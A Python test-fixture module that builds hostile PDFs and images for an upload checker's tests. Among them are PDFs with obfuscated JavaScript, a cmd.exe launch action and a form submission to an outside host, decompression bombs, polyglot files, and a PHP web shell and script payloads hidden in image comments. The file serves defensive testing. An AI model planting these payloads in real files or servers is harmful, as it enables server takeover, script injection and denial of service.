"""PDF files and pictures that run something, hide something or hurt whoever opens them."""

import io
import zipfile
import zlib

from tests.unit.papers.file_parts import (
    MEGABYTE,
    hostile,
    jpeg,
    jpeg_segment,
    packed_objects,
    pdf,
    pdf_stream,
    png,
    png_chunk,
    word,
    zipped,
)

# PDF


@hostile("mã lệnh.pdf", "active", "a script that runs at opening")
def pdf_with_script():
    return pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")


@hostile("mã lệnh viết lạ.pdf", "active", "the same, its name written in numbers")
def pdf_with_disguised_script():
    return pdf(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>")


@hostile("mã lệnh nén.pdf", "active", "the same in packed objects")
def pdf_with_packed_script():
    return pdf(packed_objects(b"4 0  << /S /JavaScript /JS (app.alert(1)) >>"))


@hostile("mã lệnh nén lạ.pdf", "active", "the same, packed twice so that it cannot be looked into")
def pdf_with_twice_packed_script():
    entries = b"/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]"
    return pdf(pdf_stream(zlib.compress(b"4 0  << /S /JavaScript >>").hex().encode() + b">", entries))


@hostile("chạy.pdf", "active", "starts a program")
def pdf_that_launches():
    return pdf(b"<< /S /Launch /F (cmd.exe) >>")


@hostile("đính kèm.pdf", "active", "carries another file")
def pdf_with_attachment():
    return pdf(pdf_stream(b"MZ", b"/Type /EmbeddedFile"))


@hostile("gửi đi.pdf", "active", "sends what is typed into it to another machine")
def pdf_that_submits():
    return pdf(b"<< /S /SubmitForm /F (https://example.com/) >>")


@hostile("biểu mẫu xfa.pdf", "active", "a form language with scripts of its own")
def pdf_with_xfa():
    return pdf(b"<< /Fields [] /XFA 5 0 R >>", pdf_stream(b"<xdp/>"))


@hostile("mật khẩu.pdf", "encrypted", "what is encrypted cannot be looked into")
def encrypted_pdf():
    return pdf(b"<< /Filter /Standard /V 4 >>", trailer=b"/Encrypt 4 0 R")


@hostile("bom.pdf", "bomb", "packed objects that unfold to 200 MB")
def pdf_bomb():
    return pdf(packed_objects(b" " * 200 * MEGABYTE))


@hostile("vụn.pdf", "bomb", "half a million streams to be looked at one by one")
def pdf_of_crumbs():
    return pdf(b"stream\n" * 500_000)


@hostile("trang trước.pdf", "content", "a page in front of the PDF")
def page_before_pdf():
    return b"<html><script>alert(1)</script></html>\n" + pdf()


@hostile("dấu trước.pdf", "content", "a mark of text in front: programs that look for it take the file for text")
def mark_before_pdf():
    return b"\xef\xbb\xbf" + pdf()


@hostile("trang sau.pdf", "hidden", "a page behind the PDF")
def page_after_pdf():
    return pdf(tail=b"<html><script>alert(1)</script></html>")


@hostile("kho sau.pdf", "hidden", "a Word file behind the PDF")
def archive_after_pdf():
    return pdf(tail=word())


@hostile("kho giữa.pdf", "hidden", "an archive that ends with the mark of a PDF's end")
def archive_with_pdf_end():
    packed = io.BytesIO(word())
    with zipfile.ZipFile(packed, "a") as archive:
        archive.comment = b"\n%%EOF"
    return pdf(tail=packed.getvalue())


@hostile("đứt.pdf", "damaged", "half of a PDF")
def cut_pdf():
    return pdf()[:200]


# Pictures


@hostile("khổng lồ.png", "dimensions", "30,000 x 30,000 points take 3 GB when drawn")
def huge_png():
    return png(30_000, 30_000)


@hostile("khổng lồ.jpg", "dimensions", "65,500 x 65,500 points")
def huge_jpeg():
    return jpeg(65_500, 65_500)


@hostile("rộng.png", "dimensions", "every side allowed, together 400 million points")
def wide_png():
    return png(20_000, 20_000)


@hostile("không điểm.png", "damaged", "no width")
def flat_png():
    return png(0, 10)


@hostile("kho.jpg", "hidden", "an archive behind the picture")
def archive_after_jpeg():
    return jpeg(tail=word())


@hostile("kho.png", "hidden", "an archive behind the picture")
def archive_after_png():
    return png(tail=zipped([("a.class", "x")]))


@hostile("đuôi.png", "hidden", "anything behind the picture, such as the part that was cut off")
def png_with_tail():
    return png(tail=b"leftover")


@hostile("mã.jpg", "hidden", "a page in the picture's remark")
def script_in_jpeg():
    return jpeg(extra=jpeg_segment(0xFE, b"<SCRIPT>alert(1)</SCRIPT>"))


@hostile("php.jpg", "hidden", "a program for the server in the picture's remark")
def php_in_jpeg():
    return jpeg(extra=jpeg_segment(0xFE, b"<?php system($_GET[0]); ?>"))


@hostile("svg.png", "hidden", "a drawing with scripts in the picture's remark")
def svg_in_png():
    return png(extra=png_chunk(b"tEXt", b"c\0<svg onload=alert(1)>"))


@hostile("pdf trong.jpg", "hidden", "PDF programs look for their sign in the first thousand bytes")
def pdf_in_jpeg():
    return jpeg(extra=jpeg_segment(0xFE, pdf(b"<< /S /JavaScript >>")))


@hostile("đứt.jpg", "damaged", "only the beginning of a picture")
def cut_jpeg():
    return jpeg()[:30]


@hostile("không hết.jpg", "damaged", "a picture without end")
def endless_jpeg():
    return jpeg()[:-2]


@hostile("đệm.jpg", "damaged", "ten million fill bytes to be walked over")
def padded_jpeg():
    return jpeg(extra=b"\xff" * 10_000_000)


@hostile("vụn.png", "damaged", "a million empty pieces to be walked over")
def png_of_crumbs():
    return png(extra=png_chunk(b"tEXt", b"") * 1_000_000)


@hostile("đứt.png", "damaged", "only the beginning of a picture")
def cut_png():
    return png()[:40]


@hostile("không đầu.png", "damaged", "a picture whose size does not come first")
def headless_png():
    whole = png()
    return whole[:8] + png_chunk(b"tEXt", b"a\0b") + whole[8:]
